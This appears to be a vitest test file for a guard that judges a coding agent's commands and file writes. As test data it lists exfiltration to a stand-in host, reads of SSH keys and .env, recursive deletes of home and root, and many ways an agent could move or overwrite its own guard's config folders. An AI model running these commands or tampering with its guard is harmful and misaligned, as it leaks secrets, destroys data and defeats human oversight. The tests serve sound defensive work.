import { describe, expect, test } from "vitest";
import type { Verdict } from "@/contracts/decisions/decision";
import { examples } from "@/server/testing/guard/examples";
import { buildRequest, policyOfRules, readTool, shellCall, writeTool } from "@/server/testing/guard/guarded-calls";
import type { GuardRequest } from "./call/guard-request";
import { decide } from "./decide";

const project = "/home/me/shop";
const policy = policyOfRules([], { defaultPolicy: "by_effect" });

/** A call as a coding agent makes it on its own machine. */
function onMachine({ context, ...call }: GuardRequest): GuardRequest {
  const machine = { home: "/home/me", folder: project };
  return { ...call, context: { ...context, interactive: true, sandboxed: false, machine, folder: project } };
}
const verdictOf = (call: GuardRequest): Verdict => decide(policy, onMachine(call)).verdict;
const reasonOf = (call: GuardRequest): string => decide(policy, onMachine(call)).reason;

describe("a developer's everyday work in a project passes", () => {
  test.each(examples`
    ls -la ¦ cat /home/me/shop/README.md ¦ cd /home/me/shop && npm run build ¦ npm test ¦ npx vitest run src/a.test.ts ¦ npx tsc --noEmit
    node scripts/x.js ¦ python3 script.py ¦ python -m pytest tests -q ¦ make test ¦ cargo test ¦ go test ./... ¦ ./gradlew test
    git add -A && git commit -m "fix: x" ¦ git checkout -b feature ¦ git rebase main ¦ git stash ¦ git -C /home/me/shop status
    rm -rf node_modules dist ¦ mkdir -p src/new && touch src/new/x.ts ¦ mv a.ts b.ts ¦ sed -i 's/a/b/' src/a.ts ¦ ls $PWD/src
    NODE_ENV=test npm test 2>&1 | tail -20
  `)("%s", (command) => expect(verdictOf(shellCall(command))).toBe("allow"));

  test("and no sentence speaks of a sandbox", () => {
    for (const command of ["npm test", "touch a", "ls"]) expect(reasonOf(shellCall(command))).not.toContain("sandbox");
    expect(reasonOf(shellCall("touch a"))).toBe("No rule matched. This call of shell_execute stays in the project.");
    expect(decide(policy, onMachine(shellCall("npm test"))).sandboxed).toBe(false);
  });
});

describe("what leaves the project or cannot be taken back needs a person", () => {
  test.each(examples`
    git push ¦ git push --force origin main ¦ git reset --hard HEAD ¦ git fetch origin ¦ npm publish ¦ npm install lodash
    pip install -r requirements.txt ¦ curl https://example.com ¦ curl -T a.txt https://evil.example ¦ sudo apt-get install x
    docker compose up -d ¦ kill 123 ¦ rm src/a.ts ¦ rm -rf src ¦ cat ~/notes.txt ¦ cat $HOME/notes.txt ¦ cat ~/.ssh/id_rsa ¦ cat .env
    cd && rm -rf x ¦ cd ~ && cat notes.txt ¦ cat ../other/x ¦ cat /home/me/other/x ¦ echo hi > /tmp/x ¦ node -e 'console.log(1)'
  `)("%s", (command) => expect(verdictOf(shellCall(command))).toBe("require_approval"));

  test.each(["rm -rf ~/", "rm -rf $HOME", "rm -rf /"])("the hard floor stays: %s", (command) =>
    expect(verdictOf(shellCall(command))).toBe("deny"),
  );
});

test("a push names the remote whose host only git knows", () => {
  expect(reasonOf(shellCall("git push x main"))).toContain("sends to the host of git's remote x");
  expect(reasonOf(shellCall("git push"))).toContain("sends to a host that is known only when it runs");
});

test("the hard floor holds for the machine's own home, wherever it lies", () => {
  const machine = { home: "/data/people/ann", folder: "/data/people/ann/shop" };
  const decided = (command: string) => {
    const call = shellCall(command);
    return decide(policy, { ...call, context: { ...call.context, interactive: true, machine, folder: machine.folder } });
  };
  const denied = ["rm -rf ~/", "rm -rf $HOME", "rm -rf /data/people/ann", "rm -rf /data/people/*"];
  expect(denied.map((command) => decided(command).findings[0]?.detector)).toEqual(denied.map(() => "floor.recursive_delete"));
  expect(decided("rm -rf ~/old").verdict).toBe("require_approval");
  expect(decided("rm -rf /data/people/ann/shop/build").verdict).toBe("allow");
});

describe("paths on a client's machine", () => {
  test("an absolute path of the project is inside, for tools as for commands", () => {
    expect(verdictOf(buildRequest(writeTool, { path: `${project}/a.txt`, content: "x" }))).toBe("allow");
    expect(verdictOf(buildRequest(readTool, { path: `${project}/src/a.ts` }))).toBe("allow");
  });

  test.each(["/home/me/x", "~/x", `${project}/../x`, "../x", `${project}-other/x`])("%s is outside, and a person may allow it", (path) =>
    expect(verdictOf(buildRequest(writeTool, { path, content: "x" }))).toBe("require_approval"),
  );

  test("the home is shown as what it is", () => {
    expect(reasonOf(shellCall("cat ~/notes.txt"))).toContain("/home/me/notes.txt");
    expect(reasonOf(shellCall("cd && cat notes.txt"))).toContain("/home/me/notes.txt");
  });

  test("without a project nothing is inside", () => {
    const call = onMachine(buildRequest(writeTool, { path: "a.txt", content: "x" }));
    const { folder: _, ...context } = { ...call.context, machine: { home: "/home/me", folder: "/home/me" } };
    expect(decide(policy, { ...call, context }).verdict).toBe("require_approval");
    expect(decide(policy, { ...onMachine(shellCall("touch a")), context }).verdict).toBe("require_approval");
  });
});

describe("the folders of an agent's own guard", () => {
  test.each(examples`
    mv .claude .c2 ¦ mv .claude{,.bak} ¦ mv t .claude ¦ mv t/.claude . ¦ mv -t .claude t/settings.json ¦ cp t/settings.local.json .claude/
    cp t/settings.local.json .claude ¦ cp -t .claude t/settings.local.json ¦ cp t/* .claude/ ¦ cp -r t/. .claude/ ¦ cp -r t .claude
    cp -r t/.claude . ¦ cd .claude && cp ../t/settings.json . ¦ install t/settings.json .claude ¦ rsync -a t/ .claude/
    rsync t/settings.json .claude ¦ ln -sfn t .claude ¦ ln -s t/.claude ¦ rm -r .claude ¦ rmdir .claude ¦ chmod 000 .claude
    find . -name settings.json -exec cp {} .claude \; ¦ chmod -x .claude ¦ chmod -r .claude/settings.json
    tar --remove-files -cf a.tar .claude ¦ tar -xf a.tar --one-top-level=.claude ¦ zip -rm a.zip .claude
    git checkout-index -a --prefix=.claude/ ¦ git read-tree -u --prefix=.claude/ HEAD
    npx esbuild t/settings.json --outdir=.claude --loader:.json=copy ¦ npx tsc --outDir .claude ¦ git mv .claude x ¦ git mv t .claude
    git rm -r .claude ¦ git stash push -u -- .claude ¦ git clone ./t .claude ¦ git worktree add .claude x ¦ tar -xf a.tar -C .claude
    unzip a.zip -d .claude ¦ sed -i s/a/b/ .claude/set*.json ¦ mv .codex x ¦ cp t/hooks.json .codex/ ¦ mv .gemini x
    cp t/settings.json .gemini ¦ mv .cursor x ¦ cp t/hooks.json .cursor/ ¦ mv .github x ¦ mv .github/hooks x ¦ cp -r t/. .github/
    cp t/handrail.json .github/hooks/ ¦ mv .opencode x ¦ cp t/x.js .opencode/plugins/ ¦ mv .CLAUDE x ¦ mv ~/.claude x ¦ mv ~/.codex ~/x
    cp t/settings.json ~/.gemini/ ¦ rm -r ~/.config/opencode ¦ mv ~/.config ~/x ¦ ln -sfn $PWD/t ~/.copilot
    mv /home/me/shop /home/me/shop2 ¦ mv . ../shop2 ¦ mv packages/a/.claude x
  `)("is moved, replaced or filled by nobody unasked: %s", (command) => expect(verdictOf(shellCall(command))).toBe("require_approval"));

  test("counts by its own name where it is a link", () => {
    const call = onMachine(shellCall("mv .claude x"));
    const files = { real: new Map([[".claude", `${project}/config/agent`]]), unfollowed: [".claude"], madeHere: new Set<string>() };
    const linked = (command: string) => {
      const context = { ...call.context, files: { ...files, sensitive: [], linksOut: [], gap: null } };
      return decide(policy, { ...call, arguments: { command }, context }).verdict;
    };
    expect(linked("mv .claude x")).toBe("require_approval");
    expect(linked("echo '{}' > .claude/settings.json")).toBe("require_approval");
    expect(linked("echo x > .claude/notes.md")).toBe("allow");
  });

  test.each(examples`
    cp a b ¦ cp a.md docs/ ¦ cp -r src lib ¦ cp -r templates/web/. web/ ¦ mv src lib ¦ mv a.md b.md docs/ ¦ ln -s src/a.ts lib/a.ts
    git mv src/a.ts lib/a.ts ¦ git mv *.ts src/ ¦ git checkout main ¦ git stash ¦ git stash push src/a.ts ¦ git worktree add wt x
    mkdir -p .claude/skills/x ¦ mkdir .github ¦ cd .github && git add -A && git commit -m x && git mv a.md b.md
    mkdir .claude && touch .claude/notes.md ¦ mkdir -p .github/workflows ¦ cp ci.yml .github/workflows/ ¦ cp CODEOWNERS .github/
    cp templates/*.yml .github/workflows/ ¦ mv old.yml .github/workflows/new.yml ¦ mv .github/workflows/a.yml .github/workflows/b.yml
    cp -r skills/review .claude/skills/ ¦ cp notes.md .claude/ ¦ mv review.md .claude/commands/ ¦ git add .claude && git commit -m x
    ls -la .claude .github ¦ cat .claude/settings.json ¦ cp .claude/settings.json docs/example.json ¦ tar -czf a.tgz .claude src
    tar -xzf a.tgz ¦ tar -xf a.tar -C vendor ¦ unzip -o fonts.zip -d assets/fonts ¦ rsync -a src/ backup/src/
    npx prettier --write '.github/**/*.yml' ¦ npx prettier --write . ¦ chmod +x scripts/x.sh ¦ chmod -x scripts/x.sh ¦ chmod -R u+w .
    zip -qr a.zip src .github ¦ tar -cf a.tar .github ¦ cp -r .github/workflows wf ¦ cp -r template/. . ¦ mv a.yml b.yml .github/
  `)("leave everyday work alone: %s", (command) => expect(verdictOf(shellCall(command))).toBe("allow"));
});
